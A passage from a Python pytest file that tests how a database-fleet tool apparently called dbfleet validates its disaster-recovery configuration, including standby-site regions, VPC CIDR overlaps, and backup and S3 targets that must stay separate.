    ("standby region not aws", (PG_STANDBY, PG_STANDBY.replace("us-west-2", "mars-1")),
     "clusters.0.dr.standby.region", "AWS region"),
    ("standby vpc inside the fleet's", (PG_STANDBY, STANDBY.format(cidr="10.40.128.0/17")),
     "clusters.0.dr.standby.vpc_cidr", "overlaps fleet.vpc_cidr (10.40.0.0/16)"),
    ("standby vpc around the fleet's", (PG_STANDBY, STANDBY.format(cidr="10.0.0.0/8")),
     "clusters.0.dr.standby.vpc_cidr", "overlaps fleet.vpc_cidr"),
    ("standby vpc not a cidr", (PG_STANDBY, STANDBY.format(cidr="10.41.0.0/33")),
     "clusters.0.dr.standby.vpc_cidr", "not a CIDR"),
    ("standby vpc with host bits", (PG_STANDBY, STANDBY.format(cidr="10.41.0.1/16")),
     "clusters.0.dr.standby.vpc_cidr", "not a CIDR"),
    ("standby vpc too small", (PG_STANDBY, STANDBY.format(cidr="10.41.0.0/24")),
     "clusters.0.dr.standby.vpc_cidr", "a /20 or larger"),
    ("standby vpc ipv6", (PG_STANDBY, STANDBY.format(cidr="'2001:db8::/56'")),
     "clusters.0.dr.standby.vpc_cidr", "not IPv4"),
]


@pytest.mark.parametrize("name,edit,path,words", DR_BAD, ids=[d[0] for d in DR_BAD])
def test_a_bad_dr_section_gets_a_located_error(name: str, edit: tuple[str, str], path: str, words: str) -> None:
    err = _error(_with_dr(*edit))
    assert any(p.path == path for p in err.problems), str(err)
    assert words in str(err)
    assert all(p.line is not None for p in err.problems), str(err)


def manual_with_standby(old_site: str = "report") -> str:
    """The example on ha: manual with its standby site kept (old_site as given)."""
    manual = as_manual(EXAMPLE)
    standby = PG_STANDBY.replace("old_site: fence", f"old_site: {old_site}")
    return manual.replace("      drill: {schedule: \"0 6 * * *\"}\n",
                          "      drill: {schedule: \"0 6 * * *\"}\n" + standby, 1)


def test_ha_manual_takes_a_standby_site_the_playbooks_build() -> None:
    fleet = parse_fleet(manual_with_standby(), "fleet.yaml")
    pg = fleet.cluster("pg-main")
    assert isinstance(pg, PostgresCluster) and pg.ha == "manual"
    assert [h.name for h in pg.standby_hosts()] == ["pg-dr-1"]
    assert pg.dr is not None and pg.dr.standby is not None and pg.dr.standby.old_site == "report"


def test_ha_manual_refuses_the_operator_fencing_a_returning_old_site() -> None:
    err = _error(manual_with_standby("fence"))
    problem = next(p for p in err.problems if p.path == "clusters.0.dr.standby.old_site")
    assert "the operator does not watch a returning old site" in problem.message and problem.line is not None
    assert "dbfleet dr promote" in problem.message


def test_dr_needs_a_backup_section() -> None:
    text = as_manual(EXAMPLE)
    start = text.index("    backup:\n      target: {kind: local, path: /var/lib/dbfleet/backups}\n      schedule:\n"
                       "        full:")
    end = text.index("    dr:", start)
    err = _error(text[:start] + text[end:])
    assert any(p.path == "clusters.0.dr" and "needs a backup section" in p.message for p in err.problems), str(err)
    disabled = _error(_with_dr("    backup:\n      target: {kind: local, path: /var/lib/dbfleet/backups}\n"
                               "      schedule:\n        full:",
                               "    backup:\n      enabled: false\n      target: {kind: local, path: "
                               "/var/lib/dbfleet/backups}\n      schedule:\n        full:"))
    assert any(p.path == "clusters.0.dr" for p in disabled.problems), str(disabled)


def test_a_dr_target_on_another_clusters_first_target_is_refused() -> None:
    # cache's second target is pg-main's first: losing that directory would lose pg-main's backups and cache's copy.
    text = _with_dr("      target: {kind: local, path: /var/lib/dbfleet/dr-backups}\n      rpo_seconds: 4500",
                    "      target: {kind: local, path: /srv/dbfleet/backups}\n      rpo_seconds: 4500")
    text = text.replace("    backup:\n      target: {kind: local, path: /var/lib/dbfleet/backups}\n      schedule: "
                        "{snapshot:", "    backup:\n      target: {kind: local, path: /srv/cache-first}\n      "
                        "schedule: {snapshot:", 1)
    assert parse_fleet(text).cluster("cache").dr is not None  # apart from its own and every other first target
    bad = text.replace("path: /srv/dbfleet/backups}\n      rpo_seconds: 4500",
                       "path: /var/lib/dbfleet/backups}\n      rpo_seconds: 4500", 1)
    err = _error(bad)
    assert any(p.path == "clusters.2.dr.target.path" and "pg-main's backup.target" in p.message
               for p in err.problems), str(err)


def test_s3_targets_in_one_bucket_must_not_share_a_prefix() -> None:
    both = ("target: {kind: s3, bucket: acme-bk, prefix: main, region: us-east-1}",
            "target: {kind: s3, bucket: acme-bk, prefix: main/dr, region: us-west-2}")
    text = _with_target(both[0].removeprefix("target: "))
    err = _error(text.replace(PG_DR, both[1] + "\n      rpo_seconds: 60\n", 1))
    assert any(p.path == "clusters.0.dr.target.bucket" and "overlaps" in p.message for p in err.problems), str(err)
    apart = text.replace(PG_DR, both[1].replace("main/dr", "dr") + "\n      rpo_seconds: 60\n", 1)
    assert parse_fleet(apart).cluster("pg-main").dr is not None


def test_a_standby_site_is_parsed() -> None:
    fleet = parse_fleet(_with_dr(PG_STANDBY, PG_STANDBY.replace("[pg-dr-1]", "[pg-dr-1, pg-dr-2]")))
    dr = fleet.cluster("pg-main").dr
    assert dr is not None and dr.standby is not None
    assert [getattr(h, "name", h) for h in dr.standby.hosts] == ["pg-dr-1", "pg-dr-2"]
    assert dr.standby.region == "us-west-2" and dr.standby.vpc_cidr == "10.41.0.0/16"  # stacks/ builds it there


def test_an_s3_dr_target_in_the_s3_backup_targets_region_is_refused() -> None:
    # The first copy already left the fleet's region: the second must not share its region either.
    first = _with_target("{kind: s3, bucket: acme-bk, region: us-west-2}")
    assert parse_fleet(first).cluster("pg-main").backup.target.region == "us-west-2"
    err = _error(first.replace(PG_DR, "target: {kind: s3, bucket: acme-dr, region: us-west-2}\n      rpo_seconds: 60\n",
                               1))
    problems = [p for p in err.problems if p.path == "clusters.0.dr.target.region"]
    assert problems and all(p.line is not None for p in problems), str(err)
    assert "us-west-2 is the region of backup.target" in str(err)
    fine = first.replace(PG_DR, "target: {kind: s3, bucket: acme-dr, region: eu-west-1}\n      rpo_seconds: 60\n", 1)
    assert parse_fleet(fine).cluster("pg-main").dr is not None


def test_one_bucket_name_on_two_endpoints_is_two_places() -> None:
    from dbfleet.spec import S3Target, same_place

    aws = S3Target(kind="s3", bucket="acme-bk", region="us-east-1")
    other = S3Target(kind="s3", bucket="acme-bk", region="eu-west-1", endpoint="https://s3.example.net")
    assert same_place(aws, other) is None and same_place(other, aws) is None
    assert same_place(other, other.model_copy(update={"endpoint": "https://s3.example.net/"})) is not None
    assert same_place(aws, aws.model_copy(update={"region": "eu-west-1"})) is not None
    first = _with_target("{kind: s3, bucket: acme-bk, endpoint: 'https://minio.example.net:9000'}")
    text = first.replace(PG_DR, "target: {kind: s3, bucket: acme-bk, region: us-west-2}\n      rpo_seconds: 60\n", 1)
    assert parse_fleet(text).cluster("pg-main").dr is not None


def test_a_standby_vpc_apart_from_the_fleets_is_accepted() -> None:
    fleet = parse_fleet(_with_dr(PG_STANDBY, STANDBY.format(cidr="10.41.0.0/16")))
    dr = fleet.cluster("pg-main").dr
    assert dr is not None and dr.standby is not None and dr.standby.vpc_cidr == "10.41.0.0/16"


def test_two_standby_sites_need_networks_apart() -> None:
    # A second PostgreSQL cluster (pg-main's block under other names and paths) with a standby site of its own.
    start, end = EXAMPLE.index("  - name: pg-main\n"), EXAMPLE.index("  - name: mongo-main\n")
    block = EXAMPLE[start:end]
    assert PG_DR in block
    twin = block.replace(PG_STANDBY, STANDBY.format(cidr="10.41.0.0/20").replace("pg-dr-1", "pg-dr-9"))
    for old, new in (("pg-main", "pg-two"), ("pg-1", "pg-t1"), ("pg-2", "pg-t2"), ("pg-3", "pg-t3"),
                     ("/var/lib/dbfleet/", "/srv/two/")):
        twin = twin.replace(old, new)
    text = EXAMPLE[:start] + block.replace(PG_STANDBY, STANDBY.format(cidr="10.41.0.0/16")) + twin + EXAMPLE[end:]
    err = _error(text)
    assert [p.path for p in err.problems] == ["clusters.1.dr.standby.vpc_cidr"], str(err)
    assert "overlaps cluster pg-main's standby site (10.41.0.0/16)" in str(err) and err.problems[0].line is not None
    apart = parse_fleet(text.replace("vpc_cidr: 10.41.0.0/20", "vpc_cidr: 10.42.0.0/20"))
    assert [c.name for c in apart.of_engine("postgres")] == ["pg-main", "pg-two"]
